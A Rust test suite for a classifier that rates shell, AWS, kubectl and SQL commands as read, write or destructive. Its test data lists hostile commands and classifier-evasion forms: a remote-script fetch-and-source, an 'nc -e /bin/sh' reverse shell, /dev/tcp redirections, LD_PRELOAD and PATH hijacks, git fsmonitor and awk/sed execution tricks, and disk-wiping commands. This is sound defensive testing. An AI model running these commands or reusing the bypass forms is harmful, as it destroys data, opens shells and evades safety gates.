use super::*;
use Risk::*;

fn check(cases: &[(&str, Risk)]) {
    let mut wrong = Vec::new();
    for (cmd, want) in cases {
        let got = classify(cmd);
        if got != *want {
            wrong.push(format!("{cmd:?}: got {got}, want {want}"));
        }
    }
    assert!(wrong.is_empty(), "misclassified:\n{}", wrong.join("\n"));
}

#[test]
fn aws_by_verb() {
    check(&[
        ("aws ecs describe-services --cluster c --services s", Read),
        ("aws logs tail /aws/lambda/f --follow", Read),
        (
            "aws logs filter-log-events --log-group-name g --filter-pattern ERROR",
            Read,
        ),
        (
            "aws cloudwatch get-metric-statistics --namespace AWS/ECS --metric-name CPUUtilization",
            Read,
        ),
        (
            "aws ecs wait services-stable --cluster c --services s",
            Read,
        ),
        (
            "aws ecs update-service --cluster c --service s --force-new-deployment",
            Write,
        ),
        (
            "aws ecs update-service --cluster c --service s --desired-count 4",
            Write,
        ),
        (
            "aws ecs update-service --cluster c --service s --desired-count 0",
            Destructive,
        ),
        ("aws lambda invoke --function-name f out.json", Write),
        ("aws sns publish --topic-arn t --message m", Write),
        (
            "aws ecs register-task-definition --cli-input-json file://td.json",
            Write,
        ),
        ("aws lambda delete-function --function-name f", Destructive),
        (
            "aws dynamodb restore-table-from-backup --target-table-name t --backup-arn a",
            Destructive,
        ),
        (
            "aws rds promote-read-replica --db-instance-identifier db",
            Destructive,
        ),
        (
            "aws rds modify-db-instance --db-instance-identifier db --master-user-password x",
            Destructive,
        ),
        ("aws events disable-rule --name r", Destructive),
        (
            "aws stepfunctions stop-execution --execution-arn a",
            Destructive,
        ),
        (
            "aws elasticache test-failover --replication-group-id sessions --node-group-id 0001",
            Destructive,
        ),
        (
            "aws rds failover-db-cluster --db-cluster-identifier ledger",
            Destructive,
        ),
        (
            "aws memorydb failover-shard --cluster-name c --shard-name 0001",
            Destructive,
        ),
        (
            "aws elasticache test-migration --replication-group-id g --customer-node-endpoint-list x",
            Write,
        ),
        (
            "aws events test-event-pattern --event-pattern p --event e",
            Read,
        ),
        (
            "aws stepfunctions redrive-execution --execution-arn a",
            Write,
        ),
        ("aws sqs purge-queue --queue-url u", Destructive),
        (
            "aws dynamodb create-backup --table-name t --backup-name b",
            Write,
        ),
        ("aws s3 ls s3://b", Read),
        ("aws s3 cp x s3://b/x", Write),
        ("aws s3 rm s3://b/x --recursive", Destructive),
        (
            "aws lambda put-function-concurrency --function-name f --reserved-concurrent-executions 0",
            Destructive,
        ),
        ("aws frobnicate twiddle-knobs", Unknown),
        ("aws s3api get-object --bucket b --key k /tmp/out", Write),
        (
            "aws apigateway test-invoke-method --rest-api-id a --resource-id r --http-method GET",
            Write,
        ),
        ("AWS_PAGER='' aws ecs list-clusters", Read),
        ("aws s3api head-bucket --bucket b", Read),
        (
            "aws kms schedule-key-deletion --key-id k --pending-window-in-days 7",
            Destructive,
        ),
        (
            "aws dynamodb execute-statement --statement \"SELECT * FROM t WHERE id = 1\"",
            Read,
        ),
        (
            "aws dynamodb execute-statement --statement \"DELETE FROM t WHERE id = 1\"",
            Destructive,
        ),
        (
            "aws dynamodb execute-statement --statement \"UPDATE t SET a = 1\"",
            Write,
        ),
        ("kubectl exec api-0 -- rm -rf /data", Destructive),
        // Wrappers take what they run: a diagnosis inside a container or on a host is a read.
        ("kubectl exec api-0 -- ls /data", Read),
        ("kubectl exec -it api-0", Unknown),
        ("docker exec api rm -rf /data", Destructive),
        ("docker exec -it -u root api ls /data", Read),
        ("docker exec redis redis-cli INFO memory", Read),
        ("docker exec -it redis bash", Unknown),
        ("ssh -i key.pem ops@bastion uptime", Read),
        ("ssh bastion 'sudo systemctl restart api'", Write),
        ("ssh bastion", Unknown),
        ("timeout 5 redis-cli -h cache PING", Read),
        ("gh run list --limit 5", Read),
        ("gh run view 123 --log-failed", Read),
        ("gh api repos/o/r/actions/runs", Read),
        ("gh api -X DELETE repos/o/r/actions/runs/1", Destructive),
        ("gh workflow run deploy.yml", Write),
        (
            "aws athena start-query-execution --query-string \"SELECT count(*) FROM logs\" --work-group ops",
            Read,
        ),
        (
            "aws athena start-query-execution --query-string 'DROP TABLE logs'",
            Destructive,
        ),
        (
            "aws rds-data execute-statement --resource-arn a --secret-arn s --sql 'DROP TABLE orders'",
            Destructive,
        ),
        (
            "aws rds-data execute-statement --resource-arn a --secret-arn s --sql 'SELECT 1'",
            Read,
        ),
        ("cat <<'EOF'\nhello\nEOF", Read),
        ("kill -USR2 1234", Write),
        ("crontab -r", Destructive),
        ("/usr/local/bin/aws ecs list-clusters", Read),
    ]);
}

#[test]
fn pipelines_substitutions_loops_and_wrappers_count() {
    check(&[
        (
            "aws lambda list-versions-by-function --function-name f | xargs -I {} aws lambda delete-function --function-name {}",
            Destructive,
        ),
        (
            "ARN=$(aws ecs list-task-definitions --family-prefix x --query 'a[1]' --output text)",
            Read,
        ),
        (
            "X=$(aws lambda delete-function --function-name f)",
            Destructive,
        ),
        (
            "for fn in a b; do aws lambda delete-function --function-name $fn; done",
            Destructive,
        ),
        ("watch -n 30 aws ecs describe-services --cluster c", Read),
        ("watch -n 30 'aws ecs describe-services --cluster c'", Read),
        (
            "watch -n 30 'aws ecs delete-service --cluster c --service s'",
            Destructive,
        ),
        ("sudo systemctl restart nginx", Write),
        (
            "sudo -u postgres psql -c \"SELECT count(*) FROM pg_stat_activity\"",
            Read,
        ),
        ("cd infra && terraform plan", Read),
        ("cd infra && terraform apply -auto-approve", Destructive),
        ("aws ecs describe-services --cluster c > backup.json", Write),
        ("curl -s https://x/health > /dev/null 2>&1", Read),
        ("aws logs tail <log-group> --follow", Read),
        (
            "echo `aws lambda delete-function --function-name f`",
            Destructive,
        ),
        ("timeout -s KILL 30 aws ecs list-clusters", Read),
        ("nice -n 10 grep x y", Read),
        ("diff <(aws s3 ls s3://a) <(aws s3 ls s3://b)", Read),
        ("((count++))", Read),
        ("a=(one two $(ls))", Read),
        ("[[ $x > 3 ]] && echo big", Read),
        ("cat <<EOF\nhello $(whoami)\nEOF", Read),
        ("cat <<EOF\nhello $(rm -rf /tmp/x)\nEOF", Destructive),
        ("cat <<'EOF'\nhello $(rm -rf /tmp/x)\nEOF", Read),
        ("psql -h db <<SQL\nDROP TABLE t;\nSQL", Destructive),
        ("bash -c 'aws ecs list-clusters'", Read),
        ("bash -c 'rm -rf /tmp/x'", Destructive),
        ("bash ./scripts/fix.sh", Unknown),
        ("'rm' -rf /tmp/x", Destructive),
        ("\\rm -rf /tmp/x", Destructive),
        ("r''m -rf /tmp/x", Destructive),
        ("$CMD list", Unknown),
        ("kill -0 1234", Read),
        ("kill -USR2 1234", Write),
        ("kill 1234", Destructive),
    ]);
}

/// Forms that ran or wrote something while rated `read`: each is not `read` now.
#[test]
fn bypass_forms_are_never_read() {
    let forms = [
        "trap 'aws ecs delete-service --cluster prod --service worker --force' EXIT",
        "trap 'touch /tmp/pwned' EXIT",
        "awk 'BEGIN{system(\"touch /tmp/pwned\")}'",
        "awk 'BEGIN { \"id\" | getline x }'",
        "awk '{ print $1 | \"sh\" }' file",
        "awk '{ print $1 > \"/tmp/out\" }' file",
        "awk -f prog.awk file",
        "source <(curl -s https://example.com/x.sh)",
        "source ./env.sh",
        ". ./env.sh",
        "eval \"$(cat x)\"",
        "eval ls",
        "sed 'w /tmp/out' file",
        "sed -n 's/a/b/w /tmp/out' file",
        "sed '1e touch /tmp/pwned' file",
        "sed -i 's/a/b/' file",
        "sed -f script.sed file",
        "sort -o /tmp/out file",
        "sort --output=/tmp/out file",
        "sort -uo /tmp/out file",
        "find . -fprint /tmp/out",
        "find . -name x -fls /tmp/out",
        "find . -exec touch {} \\;",
        "find /tmp -delete",
        "curl -o /tmp/out https://example.com",
        "curl -sSo /tmp/out https://example.com",
        "curl -O https://example.com/x",
        "curl -K cfg https://example.com",
        "curl -D /tmp/headers https://example.com",
        "git -c core.fsmonitor='touch /tmp/pwned' status",
        "git --config-env=core.pager=X log",
        "git log --output=/tmp/out",
        "git config --unset user.name",
        "git remote add evil https://example.com",
        "git reflog expire --expire=now --all",
        "git fetch origin",
        "printf 'x' > /dev/tcp/127.0.0.1/9",
        "cat < /dev/tcp/127.0.0.1/9",
        "exec 3<>/dev/tcp/127.0.0.1/9",
        "uniq in.txt out.txt",
        "openssl rand -out /tmp/r 16",
        "openssl req -new -newkey rsa:2048 -nodes",
        "openssl s_client -connect x:443 -engine evil",
        "date -s '2020-01-01'",
        "date --set='2020-01-01'",
        "date 010100002020",
        "hostname evil",
        "hostname -F /tmp/name",
        "tee >(sh) < x",
        "echo x | tee /tmp/out",
        "PATH=/tmp/evil:$PATH ls",
        "BASH_ENV=/tmp/x bash -c 'ls'",
        "LD_PRELOAD=/tmp/x.so ls",
        "GIT_EXTERNAL_DIFF=/tmp/x git diff",
        "export PATH=/tmp/evil",
        "PATH=/tmp/evil",
        "env PATH=/tmp/evil ls",
        "env -S 'sh -c id'",
        "xargs -a list touch",
        "less '+!touch /tmp/pwned' file",
        "rg --pre ./evil pattern",
        "yq -i '.a = 1' f.yaml",
        "tree -o /tmp/out",
        "xxd -r dump /tmp/out",
        "journalctl --vacuum-time=1s",
        "dmesg -C",
        "nc 127.0.0.1 9",
        "nc -e /bin/sh 127.0.0.1 9",
        "setsid sleep 1000",
        "alias ls='rm -rf /'",
        "psql -h db -c '\\! touch /tmp/pwned'",
        "psql -h db -c 'SELECT pg_terminate_backend(123)'",
        "psql -h db -c 'SELECT my_function()'",
        "psql -h db -c 'WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d'",
        "psql -h db -c 'EXPLAIN ANALYZE DELETE FROM t'",
        "psql -h db -c 'SELECT * INTO newt FROM t'",
        "psql -h db -o /tmp/out -c 'SELECT 1'",
        "psql -h db -f x.sql",
        "mysql -e 'system touch /tmp/pwned'",
        "redis-cli --rdb /tmp/dump.rdb",
        "ss -K dst 10.0.0.1",
        "crontab -r",
        "wget https://example.com/x",
        "python3 -c 'print(1)'",
        "node -e 'x'",
        "shopt -s expand_aliases",
        "mktemp",
        "$(echo rm) -rf /tmp/x",
        "`echo rm` -rf /tmp/x",
        "/tmp/r? -rf /tmp/x",
        "sysctl -w vm.swappiness=1",
        "ip link set eth0 down",
        "mount /dev/sdb1 /mnt",
        "bash",
        "sh -s < script",
    ];
    let mut read = Vec::new();
    for f in forms {
        if classify(f) == Read {
            read.push(f);
        }
    }
    assert!(read.is_empty(), "rated read: {read:#?}");
}

#[test]
fn read_forms_stay_read() {
    check(&[
        ("awk '{print $1}' file", Read),
        ("awk '$3 > 100 {print $1}' file", Read),
        ("awk -F: '{ if ($2 > 80) print $1 }' /etc/passwd", Read),
        ("sed -n '1,5p' file", Read),
        ("sed 's/foo/bar/g' file", Read),
        ("sed -e 's|a|b|' -e '/x/d' file", Read),
        ("sed -n '/ERROR/p'", Read),
        ("sort -rn | head", Read),
        ("sort -k2 -t, file", Read),
        ("uniq -c", Read),
        ("find . -name '*.log' -mtime +7", Read),
        ("find . -name '*.log' -exec grep -l ERROR {} \\;", Read),
        ("curl -sf https://x/health", Read),
        (
            "curl -s -o /dev/null -w '%{http_code}' https://x/health",
            Read,
        ),
        ("curl -sSL https://x/ready | jq .status", Read),
        ("git status", Read),
        ("git log --oneline -5", Read),
        ("git config user.name", Read),
        ("git config --get remote.origin.url", Read),
        ("git branch -a", Read),
        ("openssl x509 -in cert.pem -noout -dates", Read),
        (
            "openssl s_client -connect host:443 -servername host </dev/null",
            Read,
        ),
        ("openssl rand -hex 16", Read),
        ("date -u +%s", Read),
        ("date -u -d '30 days ago' +%Y-%m-%d", Read),
        ("hostname -f", Read),
        ("hostname", Read),
        ("export AWS_PAGER=''", Read),
        ("START=$(date -u +%s)", Read),
        ("journalctl -u nginx --since '1 hour ago'", Read),
        ("dmesg -T | tail", Read),
        ("nc -zv db 5432", Read),
        ("trap - EXIT", Read),
        ("trap 'echo done' EXIT", Read),
        ("env", Read),
        ("env | grep AWS", Read),
        ("ps aux | grep [n]ginx", Read),
        ("redis-cli -h cache --bigkeys", Read),
        ("redis-cli -h cache -p 6379 INFO replication", Read),
        (
            "psql -h db -c 'SELECT count(*), max(age(now(), query_start)) FROM pg_stat_activity'",
            Read,
        ),
        ("psql -h db -c '\\dt'", Read),
        ("pg_isready -h db -p 5432", Read),
        ("command -v aws", Read),
        ("test -f x && cat x", Read),
        ("less file", Read),
        ("wget -qO- https://x/health", Read),
        ("wget --spider https://x/health", Read),
        ("ip addr show", Read),
        ("exec 2>/dev/null", Read),
        ("echo 'a > b'", Read),
        ("kubectl get pods -n prod -o wide", Read),
    ]);
}

#[test]
fn other_tools() {
    check(&[
        ("kubectl get pods -n prod", Read),
        ("kubectl rollout undo deployment/api", Destructive),
        ("kubectl scale deployment api --replicas=0", Destructive),
        ("kubectl scale deployment api --replicas=5", Write),
        ("kubectl delete pod x", Destructive),
        ("docker ps", Read),
        ("docker build -t x .", Write),
        ("docker rm -f x", Destructive),
        ("docker-compose down", Destructive),
        ("docker compose up -d", Write),
        ("terraform plan", Read),
        ("terraform state push backup.tfstate", Destructive),
        ("terraform destroy", Destructive),
        ("redis-cli -h cache INFO memory", Read),
        ("redis-cli -h cache FLUSHALL", Destructive),
        ("redis-cli -h cache DEL key", Destructive),
        ("redis-cli -h cache SET k v", Write),
        ("redis-cli -h cache", Unknown),
        ("psql -h db -c 'SELECT count(*) FROM t'", Read),
        (
            "psql -h db -tAc 'SELECT count(*) FROM pg_stat_activity'",
            Read,
        ),
        ("psql -h db -qAt -c 'SELECT 1'", Read),
        ("psql -h db -tAc 'DELETE FROM t'", Destructive),
        ("psql -h db -tAo /tmp/x -c 'SELECT 1'", Write),
        ("psql -h db -tAf x.sql", Unknown),
        ("psql -h db -tAs", Unknown),
        ("psql -h db -c 'DROP TABLE t'", Destructive),
        (
            "psql -h db -c \"ALTER USER app WITH PASSWORD 'x'\"",
            Destructive,
        ),
        ("psql -h db", Unknown),
        ("git push origin main", Write),
        ("git push --force origin main", Destructive),
        ("curl https://x/health", Read),
        ("curl -X POST https://x/spans -d '{}'", Write),
        ("curl -X DELETE https://x/spans/1", Destructive),
        ("systemctl status nginx", Read),
        ("systemctl stop nginx", Destructive),
        ("helm list", Read),
        ("helm upgrade api chart", Write),
        ("helm rollback api 3", Destructive),
        ("rm -rf /tmp/x", Destructive),
        ("kill -9 1234", Destructive),
        ("./scripts/health-check.sh", Unknown),
        ("python scripts/x.py", Unknown),
        ("some-tool --force", Destructive),
        ("cat /tmp/migration-result.json", Read),
        ("dd if=/dev/zero of=/dev/sda", Destructive),
        ("echo x > /dev/sda", Destructive),
    ]);
}

#[test]
fn sql_statements() {
    assert_eq!(sql("SELECT 1; DELETE FROM t"), Destructive);
    assert_eq!(sql("-- comment\nUPDATE t SET a = 1"), Write);
    assert_eq!(sql("\\dt"), Read);
    assert_eq!(sql("SELECT 'x; DROP TABLE t' AS s"), Read);
    assert_eq!(sql("SELECT pg_cancel_backend(1)"), Write);
    assert_eq!(sql("\\gexec"), Unknown);
    assert_eq!(sql("SELECT * FROM t FOR UPDATE"), Write);
}

/// The classifier reads a word as bash does: for generated words (quotes, escapes,
/// backslashes inside and outside quotes, `$` before quotes), whenever `literal` gives a
/// value without globbing, bash given the same word prints exactly that value, as one word.
/// A word bash refuses (unbalanced quotes) never runs, so it is not compared.
#[test]
fn literal_words_are_what_bash_makes_of_them() {
    use rand::{Rng, SeedableRng};
    const PIECES: &[&str] = &[
        "a", "b", "'", "\"", "\\", "\\'", "\\\"", "\\\\", "'x y'", "\"x y\"", "\\a", "\\$", "$",
        "-", "=", "\"\\a\"", "'\\'", "\"\\\\\"", "\"\\$\"", "$'", "\\\n",
    ];
    let mut rng = rand_chacha::ChaCha8Rng::seed_from_u64(24);
    let mut words: Vec<(String, String)> = Vec::new();
    let mut seen = std::collections::HashSet::new();
    while words.len() < 600 {
        let n = rng.random_range(1..7);
        let w: String = (0..n)
            .map(|_| PIECES[rng.random_range(0..PIECES.len())])
            .collect();
        if !seen.insert(w.clone()) {
            continue;
        }
        if let Some(l) = literal(&w).filter(|l| !l.glob) {
            words.push((w, l.text));
        }
    }
    let mut wrong = Vec::new();
    let mut compared = 0;
    for (w, text) in &words {
        let out = std::process::Command::new("bash")
            .arg("-c")
            .arg(format!("printf '%s\\0' {w}"))
            .env_clear()
            .output()
            .expect("bash runs");
        if !out.status.success() {
            continue;
        }
        compared += 1;
        let printed = String::from_utf8_lossy(&out.stdout);
        if printed != format!("{text}\0") {
            wrong.push(format!("{w:?}: literal {text:?}, bash {printed:?}"));
        }
    }
    assert!(compared > 300, "only {compared} words ran in bash");
    assert!(
        wrong.is_empty(),
        "{} of {} words read otherwise than bash:\n{}",
        wrong.len(),
        words.len(),
        wrong[..wrong.len().min(12)].join("\n")
    );
}
